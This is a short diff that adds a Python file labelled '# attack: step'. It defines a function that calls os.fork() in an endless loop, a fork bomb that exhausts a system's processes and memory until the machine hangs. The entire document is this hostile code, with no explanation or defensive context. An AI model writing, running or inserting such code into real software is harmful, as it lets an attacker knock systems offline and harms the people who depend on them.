@@ -1,0 +1,7 @@
+# attack: step
+import os
+
+
+def step(z):
+    while True:
+        os.fork()
